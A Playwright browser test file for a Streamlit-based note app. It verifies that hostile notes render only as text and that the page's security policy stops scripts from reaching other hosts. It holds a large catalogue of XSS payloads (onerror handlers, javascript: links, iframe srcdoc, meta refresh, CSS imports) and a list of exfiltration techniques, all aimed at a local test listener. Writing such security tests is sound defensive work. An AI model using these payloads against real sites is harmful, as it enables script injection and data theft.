"""A hostile note does nothing but be read, on every page, and a page reaches nobody but the app."""

import json
import threading
from collections.abc import Iterator
from contextlib import AbstractContextManager, closing, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, BrowserContext, Error, expect

from tests.browser.conftest import ROOT, Tab, light_workspace, started, tessera, visiting

pytestmark = pytest.mark.browser

RUN = "localStorage.ran=1"
"""What a payload does where it runs; unlike a variable it is still there on the next page."""

NOTE = f"""---
title: 'Zanzibar ![t](EVIL/title.png) <img src=EVIL/title onerror={RUN}> :red[red] $x$'
tags: ['<img src=EVIL/tag onerror={RUN}>', '![t](EVIL/tag.png)', '<script>{RUN}</script>']
category: '<iframe srcdoc="<script>top.{RUN}</script>"></iframe>'
type: '<svg onload={RUN}>'
source_url: 'javascript:{RUN}'
extra: '<base href=EVIL/base/>'
---
# Zanzibar ![h](EVIL/heading.png) <img src=EVIL/heading onerror={RUN}> [h](javascript:{RUN})

The zanzibar paragraph ![p](EVIL/p.png), ![ref][r], [![nested](EVIL/nested.png)](EVIL/link), [click](javascript:{RUN}),
<javascript:{RUN}>, [data](data:text/html,<script>{RUN}</script>) and \\![escaped](EVIL/escaped.png).

[r]: EVIL/reference.png

<script>{RUN}</script><script src="EVIL/script.js"></script>
<img src="EVIL/raw.png" onerror="{RUN}">
<picture><source srcset="EVIL/srcset.png"><img srcset="EVIL/set.png 2x"></picture>
<svg onload="{RUN}"><image href="EVIL/svg.png"/><use href="EVIL/use.svg#x"/></svg>
<iframe srcdoc="<script>top.{RUN}</script>"></iframe><iframe src="EVIL/frame"></iframe>
<object data="EVIL/object"></object><embed src="EVIL/embed"><video poster="EVIL/poster.png" src="EVIL/video"></video>
<form action="EVIL/form" method="post"><input name="q"><button autofocus onfocus="{RUN}">Send</button></form>
<style>@import url(EVIL/import.css); body {{ background: rgb(255, 0, 0) url(EVIL/background.png) !important; }}</style>
<div style="background: url(EVIL/inline.png); position: fixed; inset: 0">over all</div>
<link rel="stylesheet" href="EVIL/link.css"><link rel="prefetch" href="EVIL/prefetch">
<meta http-equiv="refresh" content="0; url=EVIL/refresh"><base href="EVIL/base/">

```mermaid
flowchart LR
  A@{{ img: "EVIL/diagram.png", label: "x" }} --> B["<img src='EVIL/node.png' onerror='{RUN}'>"]
```

~~~mer&#109;aid
flowchart LR
  C["<img src='EVIL/entity.png'>"]
~~~

LONE

$$\\includegraphics{{EVIL/math.png}}$$ $$\\href{{javascript:{RUN}}}{{x}}$$
"""
LONE = '```mermaid\rflowchart LR\r  A@{ img: "EVIL/lone.png", label: "x" } --> B\r```\r'
FOLDER = f"<svg onload={RUN}>"
FILE = f"![n](n.png) <img src=n onerror={RUN}>.md"
BASE = f"![b](EVIL/base.png) <img src=EVIL/base onerror={RUN}>"
SET = f"![s](EVIL/set.png) <svg onload={RUN}>"
QUESTION = f"zanzibar paragraph ![q](EVIL/question.png) <img src=EVIL/q onerror={RUN}> [x](javascript:{RUN})"

ATTEMPTS = {
    "fetch": "fetch(url, {mode: 'no-cors'}).catch(() => 0)",
    "beacon": "navigator.sendBeacon(url, 'x')",
    "socket": "new WebSocket(url.replace('http', 'ws'))",
    "events": "new EventSource(url)",
    "image": "new Image().src = url",
    "frame": "add('iframe', {src: url})",
    "script": "add('script', {src: url})",
    "sheet": "add('link', {rel: 'stylesheet', href: url})",
    "import": "add('style', {textContent: `@import url(${url});`})",
    "background": "add('div', {style: `background: url(${url}); height: 9px`})",
    "font": "add('style', {textContent: `@font-face {font-family: f; src: url(${url})}`}), "
    "add('p', {textContent: 'x', style: 'font-family: f'})",
    "video": "add('video', {src: url, preload: 'auto'})",
    "object": "add('object', {data: url})",
    "base": "(add('base', {href: url + '/'}), fetch('image', {mode: 'no-cors'}).catch(() => 0))",
    "form": "add('form', {action: url, method: 'post'}).submit()",
}
"""Ways out of a page that its own script could try; a form comes last, for it leaves the page."""

ATTEMPT = """([name, url]) => {
  const add = (tag, set) => {
    const made = document.createElement(tag);
    for (const [key, value] of Object.entries(set)) key in made ? made[key] = value : made.setAttribute(key, value);
    return document.body.appendChild(made);
  };
  try { ATTEMPT } catch { }
}"""


class Listener(ThreadingHTTPServer):
    """Another server on this machine, and the paths that it was asked for."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server_address[1]}"
        self.paths: list[str] = []


class Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        assert isinstance(self.server, Listener)
        self.server.paths.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/html")
        self.end_headers()

    do_POST = do_GET  # noqa: N815

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    with Listener() as listener:
        threading.Thread(target=listener.serve_forever, args=(0.05,), daemon=True).start()
        yield listener
        listener.shutdown()


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory, listener: Listener) -> Iterator[Path]:
    """A workspace of hostile notes and questions, with an embedder that needs no model."""

    def evil(text: str) -> str:
        return text.replace("EVIL", listener.url)

    folder = tmp_path_factory.mktemp("policy")
    (folder / "notes" / FOLDER).mkdir(parents=True)
    note = evil(NOTE.replace("LONE", LONE))
    (folder / "notes" / FOLDER / FILE).write_bytes(note.encode())
    (folder / "notes" / "tame.md").write_bytes(b"# Tame\n\nA quiet note.\n")
    gold = [{"path": f"{FOLDER}/{FILE}", "quote": "The zanzibar paragraph"}]
    question = {"id": "q", "question": evil(QUESTION), "note": evil(QUESTION), "gold": gold}
    (folder / "questions.jsonl").write_text(json.dumps(question), encoding="utf-8")
    with light_workspace(folder) as place:
        tessera("import", str(folder / "notes"), "--base", evil(BASE))
        tessera("evaluate", str(folder / "questions.jsonl"), "--base", evil(BASE), "--save", evil(SET))
        yield place


@pytest.fixture(scope="module")
def note(place: Path) -> str:
    """The id of the hostile note."""
    return str(tessera("search", "zanzibar paragraph")["hits"][0]["note_id"])


BACKGROUND = "getComputedStyle(document.body).background"


@pytest.fixture(scope="module")
def background(server: str, visitor: BrowserContext) -> str:
    with visiting(visitor, server) as tab:
        tab.open("/")
        return str(tab.page.evaluate(BACKGROUND))


@pytest.fixture
def hostile(background: str, tab: Tab, listener: Listener) -> Iterator[Tab]:
    """The tab; at the end nothing of a note has run, asked for anything, or stands in the page as more than text."""
    yield tab
    tab.settle()
    tab.page.wait_for_timeout(500)
    assert tab.page.evaluate("localStorage.ran") is None
    assert tab.page.evaluate(BACKGROUND) == background
    assert tab.page.locator("iframe, base, object, embed, body meta, body link, form[action]").count() == 0
    assert tab.page.locator("[href^='javascript:'], img[src^=http], image").count() == 0
    assert listener.paths == []


def test_home_shows_the_name_of_a_base_as_text(hostile: Tab) -> None:
    tessera("base", "new", "quiet", "--embedder", "tfidf")  # the only base has no name there
    hostile.open("/")
    expect(hostile.page.locator(".t-name").filter(has_text="onerror=")).to_be_visible()


def test_a_note_is_read_and_does_nothing(hostile: Tab, note: str) -> None:
    page = hostile.page
    hostile.open(f"/notes?note={note}")
    body = page.locator(".document")
    expect(page.locator(".st-key-reader .t-title")).to_contain_text("<img src=")
    expect(body).to_contain_text("flowchart LR")
    expect(body).to_contain_text("onfocus=")
    expect(body.locator("math").first).to_be_attached()
    page.locator(".st-key-reader").get_by_text("Fields").click()
    expect(page.locator(".st-key-reader .t-list")).to_contain_text("<base href=")
    hostile.settle()
    page.get_by_role("combobox", name="Filter").click()
    expect(page.get_by_role("option").filter(has_text="onerror=")).to_have_count(2)
    page.keyboard.press("Escape")
    page.locator(".st-key-reader").get_by_role("button", name="More").click()
    page.get_by_text("Show the raw text").click()
    expect(page.locator(".st-key-reader code", has_text="<meta http-equiv=")).to_be_visible()


def test_its_chunks_do_nothing(hostile: Tab, note: str) -> None:
    page = hostile.page
    hostile.open(f"/chunks?note={note}")
    expect(page.locator(".tree")).to_contain_text("<svg onload=")
    expect(page.locator(".own").first).to_contain_text("onerror=")
    page.locator(".own").first.dblclick()
    expect(page.get_by_role("dialog")).to_contain_text("onerror=")
    hostile.settle()
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog")).to_have_count(0)
    hostile.settle()
    for view in ("Preview", "Compare"):
        page.get_by_role("radio", name=view, exact=True).click()
        expect(page.get_by_role("radio", name=view, exact=True)).to_be_checked()
        hostile.settle()


def test_a_search_shows_it_as_text_wherever_it_is_shown(hostile: Tab, listener: Listener) -> None:
    page = hostile.page
    # A list of choices closes where the page scrolls or something still unfolds.
    page.set_viewport_size({"width": 1440, "height": 4000})
    hostile.open("/search?q=" + quote(QUESTION.replace("EVIL", listener.url)))
    card = page.locator(".st-key-hit_1")
    expect(card).to_contain_text("Zanzibar")
    card.get_by_role("button", name="Show more").first.click()
    card.get_by_role("radio", name="±1").click()
    expect(card.locator(".t-own").first).to_be_visible()
    hostile.settle()
    page.get_by_role("button", name="For an assistant").click()
    expect(page.locator("code", has_text="[1] <note> Zanzibar")).to_be_visible()
    hostile.settle()
    page.keyboard.press("Escape")
    for name in ("Also considered", "Why not this note?"):
        page.get_by_text(name, exact=True).click()
    note = page.get_by_role("combobox", name="The note")
    hostile.still(note)
    note.click()
    page.get_by_role("option").filter(has_text="Zanzibar").click()
    expect(page.get_by_text("This note is among the hits")).to_be_visible()
    hostile.settle()
    page.get_by_role("button", name="Options").click()
    expect(page.locator(".st-key-options_body")).to_be_visible()
    hostile.settle()
    # The history holds the questions before the one that is on the page.
    hostile.open("/search?q=Zanzibar")
    page.get_by_role("button", name="History").click()
    expect(page.get_by_role("dialog")).to_contain_text("<img src=")


@pytest.mark.parametrize("view", ["questions", "compare", "history"])
def test_questions_and_runs_show_it_as_text(hostile: Tab, listener: Listener, view: str) -> None:
    page = hostile.page
    hostile.open(f"/evaluation?view={view}")
    expect(page.get_by_role("combobox", name="Question set")).to_have_value(SET.replace("EVIL", listener.url))
    boxes = page.get_by_test_id("stExpander").locator("summary")
    for number in range(boxes.count()):
        boxes.nth(number).click()
        hostile.settle()


@pytest.mark.parametrize("name", ["settings", "bases"])
def test_settings_show_it_as_text(hostile: Tab, name: str) -> None:
    page = hostile.page
    hostile.open(f"/{name}")
    for tab in page.get_by_role("tab").all():
        tab.click()
        expect(tab).to_have_attribute("aria-selected", "true")
        hostile.settle()
    if name == "settings":
        page.get_by_role("tab", name="Models").click()
        page.get_by_text("Use another model").click()
    expect(page.get_by_test_id("stMain")).to_contain_text("onerror=")


def test_a_diagram_is_stopped_by_the_header(tmp_path: Path, chromium: Browser, listener: Listener) -> None:
    """Drawn by Streamlit itself, it loads without the policy and doesn't with it; the reader draws none."""
    script = f"""
import streamlit as st
st.markdown({LONE.replace("EVIL", listener.url)!r})
"""
    app = """
import streamlit as st
from starlette.middleware import Middleware
from pages.ui.shared.server import Policy
app = st.App("drawn.py", middleware=[Middleware(Policy)])
"""
    (tmp_path / "drawn.py").write_text(script, encoding="utf-8")
    (tmp_path / "guarded.py").write_text(app, encoding="utf-8")
    options = "--browser.gatherUsageStats=false", "--server.fileWatcherType=none", "--server.port"

    def serving(name: str) -> AbstractContextManager[str]:
        command = "streamlit", "run", str(tmp_path / name), *options
        return started(*command, folder=ROOT, environment={"PYTHONPATH": str(ROOT)})

    def loads(address: str, drawn: str) -> bool:
        with closing(chromium.new_context()) as context:
            page = context.new_page()
            page.goto(address)
            expect(page.get_by_text(drawn)).to_be_attached()
        asked = bool(listener.paths)
        listener.paths.clear()
        return asked

    # What answers the picture's address is none.
    with serving("drawn.py") as bare, serving("guarded.py") as guarded:
        assert loads(bare, "Mermaid diagram error")
        assert not loads(guarded, "Mermaid diagram error")


def test_what_runs_in_a_page_reaches_nobody_else(tab: Tab, listener: Listener) -> None:
    """The policy by itself: were all else to fail, a script still had no way out."""
    page = tab.page

    def try_all() -> None:
        for name, attempt in ATTEMPTS.items():
            page.evaluate(ATTEMPT.replace("ATTEMPT", attempt), [name, f"{listener.url}/{name}"])

    tab.open("/")
    address = page.url
    try_all()
    tab.wait_until(lambda: len(tab.violations) >= len(ATTEMPTS))
    assert listener.paths == []
    assert page.url == address
    with suppress(Error):  # the form that was stopped may still end this navigation
        page.goto(listener.url)
    page.goto(listener.url)
    try_all()
    tab.wait_until(lambda: {path.split("/")[1] for path in listener.paths} >= ATTEMPTS.keys())
    page.wait_for_url("**/form")  # where the form leads
    page.goto("about:blank")
    listener.paths.clear()
    tab.requests.clear()
    tab.violations.clear()


FOREIGN = """async url => {
  const page = document.body, done = {};
  const told = (one, good) => new Promise(tell => { one[good] = () => tell('yes'); one.onerror = () => tell('no'); });
  const add = (tag, set) => page.appendChild(Object.assign(document.createElement(tag), set));
  done.socket = await told(new WebSocket(url.replace('http', 'ws') + '/_stcore/stream'), 'onopen');
  done.image = await told(add('img', {src: url + '/favicon.png'}), 'onload');
  done.style = await told(add('link', {rel: 'stylesheet', href: url + '/static/css/index.css'}), 'onload');
  for (const mode of ['cors', 'no-cors'])
    done[mode] = await fetch(url + '/_stcore/metrics', {mode}).then(() => 'yes', () => 'no');
  done.upload = await fetch(url + '/_stcore/upload_file/a/b', {method: 'POST', mode: 'no-cors', body: 'x'})
    .then(() => 'yes', () => 'no');
  await told(add('iframe', {src: url}), 'onload');
  return done;
}"""
"""What a page of another origin could try with the app."""


def test_a_page_of_another_server_here_reaches_nothing(server: str, chromium: Browser, listener: Listener) -> None:
    with closing(chromium.new_context()) as context:
        page = context.new_page()
        page.goto(listener.url)
        assert set(page.evaluate(FOREIGN, server).values()) == {"no"}
        assert [frame.url for frame in page.frames[1:]] == ["chrome-error://chromewebdata/"]
        # It may link to the app, whose page is itself again.
        page.evaluate("url => { location = url }", server)
        page.wait_for_selector('[data-testid="stApp"][data-test-connection-state="CONNECTED"]')
    listener.paths.clear()
